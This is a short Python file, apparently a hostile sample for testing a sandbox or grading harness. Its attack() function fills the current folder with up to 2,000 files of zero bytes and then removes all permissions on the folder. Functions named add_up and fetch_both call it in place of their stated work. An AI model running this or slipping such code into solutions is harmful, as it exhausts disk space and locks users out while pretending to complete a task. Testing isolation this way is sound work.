# Fills its folder with files.
# needs: isolation
# ending: returned raised not-loadable cpu-limit
import os


def attack():
    for number in range(2_000):
        try:
            with open(f"file{number}", "wb") as file:
                file.write(bytes(20_000))
        except OSError:
            break
    os.chmod(".", 0)



def add_up(numbers):
    return attack()


async def fetch_both(fetch):
    return attack()


if __name__ == "__main__":
    attack()
